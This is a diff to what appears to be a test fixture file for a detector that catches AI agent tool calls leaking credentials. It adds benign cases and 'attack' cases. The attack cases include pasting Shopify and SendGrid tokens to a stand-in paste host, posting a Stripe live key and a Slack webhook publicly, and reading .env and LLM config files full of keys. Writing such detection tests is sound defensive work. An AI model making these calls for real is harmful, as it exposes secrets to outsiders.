@@ -49,7 +49,7 @@ REQ_ATTACKS = [
     ("notion_create_page", {"parent_id": "team-wiki", "title": "DB", "markdown": f"prod: `{PG_URL}`"}, "connection string with password"),
     ("slack_post_message", {"channel_id": "C0PUB", "text": "token: " + zw(GHP)}, "zero-width split GitHub PAT"),
     ("translate_text", {"text": f"Mein Schlüssel ist {GOOG}", "target_lang": "en"}, "google api key in text to translate"),
-    ("webhook_send", {"url": SLACK_HOOK, "text": "x"}, "Slack incoming-webhook URL (itself a credential) handed to a third-party tool"),
+    ("create_discussion", {"owner": "acme", "repo": "oss-lib", "title": "CI notifications", "body": "Our CI notifier posts to " + SLACK_HOOK + " if anyone wants to reuse it"}, "Slack incoming-webhook URL (a credential) posted publicly"),
 ]
 
 RES_ATTACKS = [
@@ -104,6 +104,34 @@ RES_LOOK = [
     ("read_file", {"path": "certs/server.crt"}, "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBaMQswCQYDVQQGEwJJ\nRTESMBAGA1UEChMJQmFsdGltb3JlMRMwEQYDVQQLEwpDeWJlclRydXN0MSIwIAYD\n-----END CERTIFICATE-----\n", "certificate"),
     ("run_command", {"command": "uuidgen; date +%s%N"}, "5b2f8e3c-9a4d-4c1e-b7f6-0d8a2e9c1b3f\n1733587200123456789\n", "uuid and nanos"),
     ("read_file", {"path": "tests/fixtures/jwks.json"}, "{\"keys\":[{\"kty\":\"RSA\",\"kid\":\"test-1\",\"use\":\"sig\",\"alg\":\"RS256\",\"n\":\"0vx7agoebGcQSuuPiLJXZptN9nndrQmbXEps2aiAFbWhM78LhWx4cbbfAAtVT86zwu1RK7aPFFxuhDR1L6tSoc_BJECPebWKRXjBZCiFV4n3oknjhMstn64tZ_2W-5JsGY4Hc5n9yBXArwl93lqt7_RN5w6Cf0h4QyQ5v-65YGjQR0_FDW2QvzqY368QQMicAtaSqzs8KJZgnYb9c7d0zgdAZHzu6qMQvRL5hajrn1n91CbOpbISD08qNLyrdkt-bFTWhAI4vMQFh6WeZu0fM4lFd2NcRwr3XPksINHaQ-G_xBniIqbw0Ls1jF44-csFCur-kEgU8awapJzKnqDKgw\",\"e\":\"AQAB\"}]}", "public JWKS"),
+]
+
+
+# Everyday secret-adjacent traffic, second batch.
+REQ_LOOK += [
+    ("run_command", {"command": "aws sts get-caller-identity --profile staging"}, "aws whoami"),
+    ("run_command", {"command": "kubectl create secret generic api-keys --from-env-file=.env.staging --dry-run=client -o yaml > k8s/secret.yaml"}, "k8s secret from file (no values inline)"),
+    ("write_file", {"path": ".github/workflows/deploy.yml", "content": "env:\n  AWS_ACCESS_KEY_ID: ${{ secrets.AWS_ACCESS_KEY_ID }}\n  AWS_SECRET_ACCESS_KEY: ${{ secrets.AWS_SECRET_ACCESS_KEY }}\n"}, "workflow secrets references"),
+    ("write_file", {"path": "src/lib/hash.ts", "content": "export const EMPTY_SHA256 = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855';\n"}, "hash constant"),
+    ("create_issue", {"owner": "acme", "repo": "web", "title": "Image upload fails", "body": "Upload id `01HF8Z3Q7K9X2M4N6P8R0T2V4W` fails with 413. Build `a1b2c3d`."}, "ulid in issue"),
+    ("write_file", {"path": "tests/fixtures/tokens.json", "content": "{\"expired\": \"test-token-expired\", \"valid\": \"test-token-valid\"}\n"}, "fixture tokens obviously fake"),
+]
+RES_LOOK += [
+    ("run_command", {"command": "aws sts get-caller-identity"}, "{\n  \"UserId\": \"AIDAJQABLZS4A3QDU576Q\",\n  \"Account\": \"123456789012\",\n  \"Arn\": \"arn:aws:iam::123456789012:user/dev\"\n}\n", "caller identity output"),
+    ("read_file", {"path": "package-lock.json"}, "{\n  \"name\": \"shop\",\n  \"lockfileVersion\": 3,\n  \"packages\": {\"node_modules/axios\": {\"version\": \"1.7.7\", \"integrity\": \"sha512-S4kL7XfjAgz9OoW8FRzw4hIS1HXfxRd3sxcHPyGK4aq5UK6t7I0ZB1zE8iIhe4WRk0R8u3oA8aXqH2lQTs8nYA==\"}}\n}\n", "package-lock integrity"),
+    ("run_command", {"command": "git rev-parse HEAD && git describe --tags"}, "3f9c2e17b0a4d5c6e7f8091a2b3c4d5e6f708192\nv2.3.0-14-g3f9c2e1\n", "git rev-parse output"),
+]
+
+
+# More formats.
+REQ_ATTACKS += [
+    ("slack_post_message", {"channel_id": "C0EXT", "text": "huggingface: " + HF}, "HF token to a shared channel"),
+    ("create_issue", {"owner": "acme", "repo": "public-sdk", "title": "401", "body": "Using `sk_live` key " + STRIPE + " and still 401"}, "stripe key in public issue"),
+    ("http_request", {"method": "POST", "url": "https://paste.example.org/", "body": "shopify " + SHOP + "\nsendgrid " + SG}, "two tokens pasted"),
+]
+RES_ATTACKS += [
+    ("read_file", {"path": "ci/.env"}, "GITHUB_TOKEN=" + GHP + "\nGITLAB_TOKEN=" + GLPAT + "\n", "CI env with git tokens"),
+    ("run_command", {"command": "cat config/llm.yaml"}, "providers:\n  openai:\n    key: " + OPENAI + "\n  anthropic:\n    key: " + ANTH + "\n", "llm config with provider keys"),
 ]
 
 
